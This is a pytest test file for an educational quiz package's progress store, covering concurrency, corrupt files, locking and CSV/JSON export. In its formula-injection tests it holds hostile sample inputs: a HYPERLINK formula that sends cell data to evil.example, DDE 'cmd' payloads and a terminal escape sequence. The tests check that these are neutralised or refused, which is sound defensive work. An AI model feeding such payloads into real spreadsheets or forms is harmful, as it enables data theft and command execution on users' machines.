"""The progress store: restarts, two processes at once, corrupt files, export."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from usjapan_edu.quiz import store as store_mod
from usjapan_edu.quiz.store import (
    EXPORT_COLUMNS,
    SCHEMA_VERSION,
    ProgressError,
    ProgressStore,
    ProgressWarning,
    default_path,
    export,
    summary,
)


def test_location_follows_the_environment(progress_home: Path, monkeypatch) -> None:
    assert default_path() == progress_home / "progress.json"
    assert ProgressStore().path == progress_home / "progress.json"
    monkeypatch.delenv("USJAPAN_EDU_HOME")
    monkeypatch.setattr(
        store_mod.platformdirs, "user_data_dir", lambda app, author: f"/somewhere/{app}"
    )
    assert default_path() == Path("/somewhere/usjapan-edu/progress.json")


def test_a_restart_reads_the_old_answers(progress_home: Path) -> None:
    first = ProgressStore()
    assert first.get("b", "q") is None
    first.update(
        "b",
        "q",
        record_attempt=True,
        type="text",
        response="Okinawa",
        correct=True,
        score=1.0,
        feedback="Correct!",
        attempts=1,
    )
    first.update("b", "q", hints_shown=1)
    again = ProgressStore()  # a new kernel
    rec = again.get("b", "q")
    assert rec["response"] == "Okinawa" and rec["attempts"] == 1 and rec["hints_shown"] == 1
    assert rec["history"][0]["response"] == "Okinawa"
    data = json.loads((progress_home / "progress.json").read_text(encoding="utf-8"))
    assert data["schema"] == "usjapan-edu/progress"
    assert data["schema_version"] == SCHEMA_VERSION
    # atomic writes leave no temporary files behind
    assert sorted(p.name for p in progress_home.iterdir()) == [
        "progress.json",
        "progress.json.lock",
    ]


def test_history_is_bounded() -> None:
    s = ProgressStore()
    for i in range(store_mod.HISTORY_LIMIT + 5):
        s.update("b", "q", record_attempt=True, response=str(i))
    record = s.get("b", "q")
    assert len(record["history"]) == store_mod.HISTORY_LIMIT
    assert record["history"][-1]["response"] == str(store_mod.HISTORY_LIMIT + 4)
    assert record["attempts"] == store_mod.HISTORY_LIMIT + 5  # every attempt counted


WRITER = textwrap.dedent(
    """
    import sys
    from usjapan_edu.quiz.store import ProgressStore
    name = sys.argv[1]
    store = ProgressStore()
    for i in range(50):
        store.update("shared-bank", f"{name}-{i}", record_attempt=True, response=str(i),
                     correct=True, score=1.0, attempts=1)
    """
)


def test_two_processes_writing_at_once_lose_nothing(progress_home: Path) -> None:
    env = {**os.environ, "USJAPAN_EDU_HOME": str(progress_home)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, name],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in ("left", "right")
    ]
    for proc in procs:
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
    answers = ProgressStore().bank("shared-bank")
    assert len(answers) == 100
    assert {f"{n}-{i}" for n in ("left", "right") for i in range(50)} == set(answers)


@pytest.mark.parametrize(
    "content",
    [
        "{not json",
        "[]",
        '{"schema": "other"}',
        "",
        '{"schema": "usjapan-edu/progress", "schema_version": 1, "banks": {"b": 3}}',
        b"\xff\xfe\x00garbage",
    ],
)
def test_a_corrupt_file_is_moved_aside_with_a_warning(
    progress_home: Path, content: str | bytes
) -> None:
    progress_home.mkdir(parents=True)
    path = progress_home / "progress.json"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    s = ProgressStore()
    with pytest.warns(ProgressWarning) as record:
        s.update("b", "q", response="x", attempts=1)
    (aside,) = progress_home.glob("progress.corrupt-*.json")
    message = str(record[0].message)
    assert str(path) in message and str(aside) in message
    assert (
        (aside.read_bytes() == content)
        if isinstance(content, bytes)
        else (aside.read_text(encoding="utf-8") == content)
    )
    assert s.get("b", "q")["response"] == "x"  # a fresh, working file


def test_a_newer_file_is_never_overwritten(progress_home: Path) -> None:
    progress_home.mkdir(parents=True)
    path = progress_home / "progress.json"
    newer = {"schema": "usjapan-edu/progress", "schema_version": SCHEMA_VERSION + 1, "banks": {}}
    path.write_text(json.dumps(newer), encoding="utf-8")
    with pytest.raises(ProgressError, match="newer usjapan-edu"):
        ProgressStore().update("b", "q", response="x")
    assert json.loads(path.read_text(encoding="utf-8")) == newer


def _fill(s: ProgressStore) -> None:
    s.register_bank("trade", title="Trade basics", total=3)
    for response, right in (("Tokyo", False), ("San Francisco", True)):
        s.update(
            "trade",
            "q1",
            record_attempt=True,
            type="single",
            response=response,
            correct=right,
            score=float(right),
            feedback="Correct!" if right else "Not quite.",
        )
    s.update(
        "trade",
        "q2",
        record_attempt=True,
        type="multiple",
        response=["Japan", "India"],
        correct=False,
        score=0.5,
        feedback="Partly right.",
        attempts=1,
    )
    s.update("trade", "q3", hints_shown=1)  # seen, not answered
    s.update(
        "other",
        "r",
        record_attempt=True,
        type="reflection",
        response='Because, "x"',
        correct=None,
        score=1.0,
        feedback="Saved.",
        attempts=1,
    )


def test_summary_per_bank() -> None:
    _fill(ProgressStore())
    table = summary()
    assert list(table.columns) == [
        "bank",
        "title",
        "answered",
        "correct",
        "score",
        "total",
        "last_activity",
    ]
    trade = table.set_index("bank").loc["trade"]
    assert (trade["answered"], trade["correct"], trade["score"], trade["total"]) == (2, 1, 1.5, 3)
    other = table.set_index("bank").loc["other"]
    assert pd.isna(other["total"]) and other["answered"] == 1 and other["correct"] == 0
    assert pd.api.types.is_datetime64_any_dtype(table["last_activity"])
    assert pd.api.types.is_integer_dtype(table["answered"])


def test_summary_of_nothing_is_an_empty_table() -> None:
    table = summary()
    assert table.empty and "answered" in table.columns


def test_export_csv(tmp_path: Path) -> None:
    _fill(ProgressStore())
    out = export(tmp_path / "sub" / "answers.csv")
    assert out == tmp_path / "sub" / "answers.csv"
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    by_q = {(r["bank"], r["question"]): r for r in rows}
    assert by_q[("trade", "q1")]["response"] == "San Francisco"
    assert json.loads(by_q[("trade", "q2")]["response"]) == ["Japan", "India"]
    assert by_q[("other", "r")]["response"] == 'Because, "x"'
    assert by_q[("trade", "q1")]["attempts"] == "2"
    assert len(rows) == 4


def test_export_json_and_explicit_format(tmp_path: Path) -> None:
    _fill(ProgressStore())
    out = export(tmp_path / "answers.json")
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["banks"]["trade"]["questions"]["q1"]["response"] == "San Francisco"
    assert "exported" in data
    other = export(tmp_path / "answers.txt", fmt="JSON")
    assert json.loads(other.read_text(encoding="utf-8"))["banks"]


@pytest.mark.parametrize(
    ("name", "fmt", "words"),
    [
        ("answers.xlsx", None, "name the file *.csv or *.json"),
        ("answers", None, "name the file *.csv or *.json"),
        ("answers.csv", "xml", "cannot export progress as 'xml'; use 'csv' or 'json'"),
    ],
)
def test_export_refuses_other_formats(
    tmp_path: Path, name: str, fmt: str | None, words: str
) -> None:
    with pytest.raises(ValueError, match=words.replace("*", r"\*")):
        export(tmp_path / name, fmt)
    assert not (tmp_path / name).exists()


def test_clear() -> None:
    s = ProgressStore()
    _fill(s)
    s.clear("other")
    assert set(s.load()["banks"]) == {"trade"}
    s.clear()
    assert s.load()["banks"] == {}


# -- issue 7, item 3: spreadsheet formula injection


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1, "Click for your grade")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-A1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, typed: str) -> None:
    s = ProgressStore()
    s.register_bank("=bank", title="=cmd|' /C calc'!A0", total=1)
    s.update(
        "=bank",
        "@q",
        record_attempt=True,
        type="reflection",
        response=typed,
        correct=None,
        score=1.0,
        feedback="-saved- " + typed,
    )
    (row,) = _csv_rows(export(tmp_path / "answers.csv"))
    for column in ("bank", "bank_title", "question", "response", "feedback"):
        assert row[column].startswith("'"), column
    assert row["response"] == "'" + typed  # the rest of the text is kept as typed
    # numbers stay numbers; the JSON export stays raw
    assert (row["score"], row["attempts"], row["hints_shown"]) == ("1.0", "1", "0")
    data = json.loads(export(tmp_path / "answers.json").read_text(encoding="utf-8"))
    assert data["banks"]["=bank"]["questions"]["@q"]["response"] == typed


@pytest.mark.parametrize("typed", ["-67.9", "-68", "+3", "-1.5e3", "0.25"])
def test_csv_export_writes_a_plain_number_as_a_number(tmp_path: Path, typed: str) -> None:
    # A negative answer is not a formula: the spreadsheet must read it as a number (issue 16).
    s = ProgressStore()
    s.update("b", "q", record_attempt=True, type="numeric", response=typed, score=1.0)
    (row,) = _csv_rows(export(tmp_path / "answers.csv"))
    assert row["response"] == typed
    assert float(row["response"]) == float(typed)


def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
    s = ProgressStore()
    s.update("b", "q", record_attempt=True, type="text", response="Tokyo = capital", score=0.0)
    s.update("b", "r", record_attempt=True, type="multiple", response=["=x", "y"], score=0.5)
    rows = {r["question"]: r for r in _csv_rows(export(tmp_path / "answers.csv"))}
    assert rows["q"]["response"] == "Tokyo = capital"
    assert json.loads(rows["r"]["response"]) == ["=x", "y"]  # a JSON list cannot be a formula


# -- item 5: two widgets of one bank never lose information


def test_update_merges_with_what_is_on_disk() -> None:
    left, right = ProgressStore(), ProgressStore()  # two notebooks, one file
    left.update("b", "q", hints_shown=1)
    left.update("b", "q", revealed=True, type="numeric")
    for typed in ("1", "2", "3"):
        left.update("b", "q", record_attempt=True, response=typed, correct=False, score=0.0)
    # the other notebook never saw any of that: its own counters are all zero
    merged = right.update(
        "b",
        "q",
        record_attempt=True,
        response="-67.9",
        correct=True,
        score=1.0,
        attempts=1,
        hints_shown=0,
        revealed=False,
    )
    assert (merged["attempts"], merged["hints_shown"], merged["revealed"]) == (4, 1, True)
    assert merged["response"] == "-67.9" and merged["correct"] is True
    assert ProgressStore().get("b", "q") == merged
    assert len(merged["history"]) == 4
    # an update that is not an attempt never lowers anything either
    again = right.update("b", "q", attempts=0, hints_shown=0, revealed=False)
    assert (again["attempts"], again["hints_shown"], again["revealed"]) == (4, 1, True)
    assert right.update("b", "q", hints_shown=2)["hints_shown"] == 2


def test_update_refuses_fields_of_the_wrong_type() -> None:
    s = ProgressStore()
    with pytest.raises(TypeError, match=r"b/q: attempts '3'"):
        s.update("b", "q", attempts="3")
    with pytest.raises(TypeError, match="revealed"):
        s.update("b", "q", revealed="yes")
    assert s.get("b", "q") is None


# -- item 10: record fields of the wrong type


def _write_progress(home: Path, questions: dict, **bank: object) -> Path:
    home.mkdir(parents=True, exist_ok=True)
    path = home / "progress.json"
    data = {
        "schema": "usjapan-edu/progress",
        "schema_version": SCHEMA_VERSION,
        "banks": {"b": {"questions": questions, **bank}},
    }
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


DAMAGED = {
    "q1": {"attempts": "3", "score": "0.5", "correct": "true", "revealed": "yes"},
    "q2": {"attempts": 2, "score": "x", "hints_shown": None, "revealed": None, "correct": 1},
    "q3": {"attempts": [1], "score": float("inf"), "feedback": {"a": 1}, "updated": "yesterday"},
    "q4": {"attempts": 1.0, "score": 1, "type": 7, "updated": "2024-05-01T10:00:00Z"},
}


def test_records_with_wrong_types_are_read_safely_and_reported(
    progress_home: Path, tmp_path: Path
) -> None:
    path = _write_progress(progress_home, DAMAGED, title=5, total="9")
    before = path.read_bytes()
    s = ProgressStore()
    with pytest.warns(ProgressWarning) as caught:
        rows = {r["question"]: r for r in s.rows()}
    message = " ".join(str(w.message) for w in caught)
    assert str(path) in message and "b/q1" in message and "b/q2" in message
    assert "b/q1 (correct 'true' read as True" in message
    q1, q2, q3, q4 = (rows[q] for q in ("q1", "q2", "q3", "q4"))
    assert (q1["attempts"], q1["score"], q1["correct"], q1["revealed"]) == (3, 0.5, True, True)
    assert (q2["score"], q2["hints_shown"], q2["revealed"], q2["correct"]) == (None, 0, False, True)
    assert (q3["attempts"], q3["score"], q3["feedback"], q3["updated"]) == (0, None, "", "")
    assert (q4["attempts"], q4["score"], q4["type"]) == (1, 1.0, "7")
    assert rows["q1"]["bank_title"] == "5"
    with pytest.warns(ProgressWarning):
        table = s.summary().set_index("bank")
    assert (table.loc["b", "answered"], table.loc["b", "correct"]) == (3, 2)
    assert table.loc["b", "score"] == pytest.approx(1.5)
    assert table.loc["b", "total"] == 9
    assert table.loc["b", "last_activity"] == pd.Timestamp("2024-05-01T10:00:00Z")
    with pytest.warns(ProgressWarning):
        assert s.get("b", "q1")["attempts"] == 3
    with pytest.warns(ProgressWarning):
        export(tmp_path / "a.csv")
    assert path.read_bytes() == before  # reading never rewrites the file


def test_a_damaged_record_is_repaired_by_the_next_answer(progress_home: Path) -> None:
    _write_progress(progress_home, {"q": {"attempts": "many", "history": "lost", "x": 1}})
    with pytest.warns(
        ProgressWarning, match=r"b/q \(attempts 'many' read as 0, history replaced\)"
    ):
        rec = ProgressStore().update("b", "q", record_attempt=True, response="1", score=0.0)
    assert (rec["attempts"], len(rec["history"]), rec["x"]) == (1, 1, 1)


def test_an_integer_too_long_to_read_is_a_corrupt_file(progress_home: Path) -> None:
    progress_home.mkdir(parents=True)
    path = progress_home / "progress.json"
    path.write_text('{"schema": "usjapan-edu/progress", "n": ' + "9" * 5000 + "}")
    with pytest.warns(ProgressWarning, match="moved"):
        assert ProgressStore().rows() == []
    assert len(list(progress_home.glob("progress.corrupt-*.json"))) == 1


# -- item 13: orphaned temporary files, many writers, symbolic links


def test_temporary_files_left_by_a_killed_writer_are_removed(progress_home: Path) -> None:
    s = ProgressStore()
    s.update("b", "q", response="x")
    orphan = progress_home / ".progress.json.k1ll3d.tmp"
    orphan.write_text("half a file")
    old = time.time() - 2 * store_mod.ORPHAN_AGE
    os.utime(orphan, (old, old))
    recent = progress_home / ".progress.json.wr1t1ng.tmp"  # might be another writer's
    recent.write_text("being written")
    unrelated = progress_home / ".answers.csv.abc.tmp"
    unrelated.write_text("not ours")
    os.utime(unrelated, (old, old))
    s.update("b", "q", response="y")
    assert not orphan.exists()
    assert recent.exists() and unrelated.exists()


def test_a_killed_writer_leaves_the_file_whole_and_its_temp_file_is_cleaned(
    progress_home: Path,
) -> None:
    """SIGKILL a writer in the middle of its writes: the file stays valid, orphans go."""
    env = {**os.environ, "USJAPAN_EDU_HOME": str(progress_home)}
    script = "\n".join(
        [
            "import sys",
            "from usjapan_edu.quiz.store import ProgressStore",
            "s = ProgressStore()",
            "s.update('b', 'big', response='x' * 3_000_000)",
            "print('ready', flush=True)",
            "while True:",
            "    s.update('b', 'q', record_attempt=True, response='y')",
        ]
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script], env=env, stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
        deadline = time.monotonic() + 30
        while not list(progress_home.glob(".progress.json.*.tmp")):
            assert time.monotonic() < deadline, "the writer never wrote a temporary file"
        proc.kill()
    finally:
        proc.kill()
        proc.wait()
    json.loads((progress_home / "progress.json").read_text(encoding="utf-8"))  # whole
    left = list(progress_home.glob(".progress.json.*.tmp"))
    old = time.time() - 2 * store_mod.ORPHAN_AGE
    for tmp in left:
        os.utime(tmp, (old, old))
    ProgressStore().update("b", "q", response="after")
    assert not list(progress_home.glob(".progress.json.*.tmp"))


BUSY_WRITER = textwrap.dedent(
    """
    import sys
    from usjapan_edu.quiz.store import ProgressStore
    name, n = sys.argv[1], int(sys.argv[2])
    store = ProgressStore()
    for i in range(n):
        store.update("shared-bank", "same-question", record_attempt=True,
                     response=f"{name}-{i}", correct=False, score=0.0)
        store.update("shared-bank", name, record_attempt=True, response=str(i))
    """
)


def test_many_busy_writers_all_succeed_and_count_every_attempt(progress_home: Path) -> None:
    """8 notebooks saving answers at once: nobody sees a timeout, no attempt is lost."""
    writers, each = 8, 50  # two updates a round: 100 updates per writer, 800 in all
    env = {**os.environ, "USJAPAN_EDU_HOME": str(progress_home)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", BUSY_WRITER, f"w{k}", str(each)],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for k in range(writers)
    ]
    for proc in procs:
        _, err = proc.communicate(timeout=600)
        assert proc.returncode == 0, err
    answers = ProgressStore().bank("shared-bank")
    assert answers["same-question"]["attempts"] == writers * each
    assert all(answers[f"w{k}"]["attempts"] == each for k in range(writers))


HOLDER = textwrap.dedent(
    """
    import sys, time
    import filelock
    with filelock.FileLock(sys.argv[1]):
        print("locked", flush=True)
        time.sleep(float(sys.argv[2]))
    """
)


def _hold_lock(lock: Path, seconds: float) -> subprocess.Popen[str]:
    lock.parent.mkdir(parents=True, exist_ok=True)
    proc = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(lock), str(seconds)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None and proc.stdout.readline() == "locked\n"
    return proc


def test_a_writer_waits_for_a_busy_lock_instead_of_failing(progress_home: Path) -> None:
    assert store_mod.LOCK_TIMEOUT >= 300  # minutes, not the seconds busy writers can take
    s = ProgressStore()
    holder = _hold_lock(s.lock_path, 1.5)
    start = time.monotonic()
    s.update("b", "q", response="x")
    assert time.monotonic() - start > 1.0  # it waited
    holder.wait(timeout=30)
    assert s.get("b", "q")["response"] == "x"


def test_a_lock_held_for_ever_is_a_progress_error_naming_it(
    progress_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(store_mod, "LOCK_TIMEOUT", 0.3)
    s = ProgressStore()
    holder = _hold_lock(s.lock_path, 30)
    try:
        with pytest.raises(ProgressError, match=re.escape(str(s.lock_path))) as caught:
            s.update("b", "q", response="x")
        assert "Timeout" not in str(caught.value) and "\n" not in str(caught.value)
    finally:
        holder.kill()
        holder.wait()


def test_a_symlinked_progress_file_keeps_its_target_updated(
    progress_home: Path, tmp_path: Path
) -> None:
    target = tmp_path / "synced" / "my-progress.json"
    target.parent.mkdir()
    progress_home.mkdir()
    link = progress_home / "progress.json"
    link.symlink_to(target)  # dangling until the first write
    s = ProgressStore()
    s.update("b", "q", response="first")
    s.update("b", "q", response="second")
    assert link.is_symlink() and link.resolve() == target
    assert json.loads(target.read_text())["banks"]["b"]["questions"]["q"]["response"] == "second"
    assert ProgressStore(target).get("b", "q")["response"] == "second"
    assert s.lock_path == target.with_name("my-progress.json.lock")  # one lock for both paths


# -- item 6: errors a command line can print as one line naming the path


def _one_line_naming(exc: BaseException, path: Path) -> None:
    text = str(exc)
    assert str(path) in text and "\n" not in text, text


def test_a_newer_file_is_an_error_for_every_reader(progress_home: Path, tmp_path: Path) -> None:
    progress_home.mkdir(parents=True)
    path = progress_home / "progress.json"
    path.write_text(
        json.dumps({"schema": "usjapan-edu/progress", "schema_version": 99, "banks": {}})
    )
    for call in (summary, ProgressStore().rows, lambda: export(tmp_path / "a.csv")):
        with pytest.raises(ProgressError, match="newer usjapan-edu") as caught:
            call()
        _one_line_naming(caught.value, path)


def test_a_folder_where_the_file_should_be(progress_home: Path) -> None:
    path = progress_home / "progress.json"
    path.mkdir(parents=True)
    for call in (summary, lambda: ProgressStore().update("b", "q", response="x")):
        with pytest.raises(ProgressError) as caught:
            call()
        _one_line_naming(caught.value, path)
    assert path.is_dir()


def test_export_into_a_folder_or_an_impossible_place(tmp_path: Path) -> None:
    ProgressStore().update("b", "q", response="x")
    folder = tmp_path / "answers.csv"
    folder.mkdir()
    with pytest.raises(ProgressError, match="is a folder") as caught:
        export(folder)
    _one_line_naming(caught.value, folder)
    a_file = tmp_path / "plain-file"
    a_file.write_text("x")
    with pytest.raises(ProgressError) as caught:
        export(a_file / "answers.csv")
    _one_line_naming(caught.value, a_file / "answers.csv")


@pytest.fixture
def read_only_home(progress_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home whose lock file cannot be created (as in a read-only folder, even as root)."""
    ProgressStore().update("b", "q", record_attempt=True, response="Okinawa", score=1.0)

    def refuse(self: object, *args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(progress_home / "progress.json.lock"))

    monkeypatch.setattr(store_mod.filelock.FileLock, "acquire", refuse)
    return progress_home


def test_a_read_only_home_can_still_be_read(read_only_home: Path) -> None:
    s = ProgressStore()
    assert s.get("b", "q")["response"] == "Okinawa"
    assert [r["response"] for r in s.rows()] == ["Okinawa"]
    assert summary().loc[0, "answered"] == 1
    with pytest.raises(ProgressError, match="Permission denied") as caught:
        s.update("b", "q", response="x")
    _one_line_naming(caught.value, read_only_home / "progress.json")


def test_a_read_only_home_with_a_damaged_file_is_left_alone(
    progress_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    progress_home.mkdir()
    (progress_home / "progress.json").write_text("{not json")
    monkeypatch.setattr(
        store_mod.filelock.FileLock,
        "acquire",
        lambda *a, **k: (_ for _ in ()).throw(PermissionError(13, "Permission denied")),
    )
    with pytest.warns(ProgressWarning, match="left as it is"):
        assert ProgressStore().rows() == []
    assert (progress_home / "progress.json").read_text() == "{not json"


def test_an_export_made_from_python_has_the_users_normal_permissions(tmp_path) -> None:
    from usjapan_edu.quiz import store as store_mod

    old = os.umask(0o022)
    try:
        store = ProgressStore(tmp_path / "home" / "progress.json")
        store.update("b", "q", response="x", correct=True, score=1.0, record_attempt=True)
        for name in ("answers.csv", "answers.json"):
            out = store_mod.export(tmp_path / name, path=store.path)
            assert out.stat().st_mode & 0o777 == 0o644
        assert store.path.stat().st_mode & 0o777 == 0o600  # the progress file stays private
    finally:
        os.umask(old)


# -- issue 16: an attempt is a new answer; the hand-in names the student


def test_the_same_answer_again_is_not_another_attempt() -> None:
    s = ProgressStore()
    first = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
    again = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
    assert again["attempts"] == 1
    assert len(again["history"]) == 1
    assert again["first"] == first["first"]  # the first time is kept, the last is `updated`
    changed = s.update("b", "q", record_attempt=True, type="numeric", response="13", correct=True)
    assert changed["attempts"] == 2
    assert [h["response"] for h in changed["history"]] == ["12", "13"]
    back = s.update("b", "q", record_attempt=True, type="numeric", response="12", correct=False)
    assert back["attempts"] == 3  # a different answer from the last one counts again


def test_student_name_is_kept_and_goes_into_every_export(tmp_path: Path) -> None:
    s = ProgressStore()
    assert s.student() == {"name": "", "id": ""}
    s.set_student("  Aiko   Tanaka ", "s-1234")
    s.update("b", "q", record_attempt=True, type="numeric", response="-67.9", score=1.0)
    assert ProgressStore().student() == {"name": "Aiko Tanaka", "id": "s-1234"}
    (row,) = _csv_rows(export(tmp_path / "answers.csv"))
    assert (row["student"], row["student_id"]) == ("Aiko Tanaka", "'s-1234"[1:])
    data = json.loads(export(tmp_path / "answers.json").read_text(encoding="utf-8"))
    assert data["student"] == {"name": "Aiko Tanaka", "id": "s-1234"}


@pytest.mark.parametrize("name", ["", "   ", "a\x00b", "x" * 201, "\x1b]0;pwned\x07"])
def test_a_bad_student_name_is_refused_with_a_reason(name: str) -> None:
    with pytest.raises(ValueError, match="name"):
        ProgressStore().set_student(name)
    assert ProgressStore().student()["name"] == ""


def test_json_export_carries_no_path_of_the_students_computer(tmp_path: Path) -> None:
    # issue 19, item 18: `source_file` held the student's home path.
    s = ProgressStore()
    s.update("b", "q", record_attempt=True, type="numeric", response="1", score=1.0)
    text = export(tmp_path / "answers.json").read_text(encoding="utf-8")
    assert "source_file" not in text
    assert str(s.path.parent) not in text


def test_a_grading_run_neither_reads_nor_writes_progress(monkeypatch: pytest.MonkeyPatch) -> None:
    mine = ProgressStore()
    mine.update("b", "q", record_attempt=True, type="numeric", response="1", score=1.0)
    before = mine.path.read_bytes()
    monkeypatch.setenv("NBGRADER_EXECUTION", "autograde")
    grader = ProgressStore()
    assert grader.in_memory
    assert grader.get("b", "q") is None  # the grader's own answers are not read
    grader.update("b", "q", record_attempt=True, type="numeric", response="2", score=0.0)
    assert ProgressStore().get("b", "q")["response"] == "2"  # one record per process
    assert mine.path.read_bytes() == before
    monkeypatch.delenv("NBGRADER_EXECUTION")
    monkeypatch.setenv("USJAPAN_EDU_PROGRESS", "off")
    assert ProgressStore().in_memory
    from usjapan_edu.quiz._cache import cache_dir

    assert cache_dir() is None  # nor a quiz cache in the grader's folders
    monkeypatch.delenv("USJAPAN_EDU_PROGRESS")
    assert ProgressStore().get("b", "q")["response"] == "1"
    assert cache_dir() is not None


def test_csv_export_carries_an_exercises_kept_value_as_json(tmp_path: Path) -> None:
    # The gradebook checks exercises again from this column (issue 17).
    s = ProgressStore()
    s.update("exercises:02", "t", record_attempt=True, type="exercise", response="-67.9",
             value=-67.9, score=1.0)  # fmt: skip
    s.update("exercises:02", "u", record_attempt=True, type="exercise", response="[...]",
             value=["=Japan", "China"], score=0.0)  # fmt: skip
    s.update("b", "q", record_attempt=True, type="numeric", response="1", score=1.0)
    rows = {r["question"]: r for r in _csv_rows(export(tmp_path / "answers.csv"))}
    assert json.loads(rows["t"]["value"]) == -67.9
    assert json.loads(rows["u"]["value"]) == ["=Japan", "China"]  # JSON text, never a formula
    assert rows["q"]["value"] == ""


def test_a_csv_hand_in_lets_the_gradebook_check_an_exercise_again(tmp_path: Path) -> None:
    # A student who edits `correct` in the CSV gains nothing: the kept value is checked again.
    from usjapan_edu import exercises
    from usjapan_edu.instructor.gradebook import build_gradebook

    assert not exercises.check("00.deficit-2022", -80.0).passed
    folder = tmp_path / "class"
    out = export(folder / "aiko.csv")
    text = out.read_text(encoding="utf-8")
    forged = text.replace(",exercise,-80.0,False,0.0,", ",exercise,-80.0,True,1.0,")
    assert forged != text
    out.write_text(forged, encoding="utf-8")
    book = build_gradebook([folder])
    row = book.students.iloc[0]
    assert row["exercises_done"] == 0 and row["exercises_self_reported"] == 0  # checked again
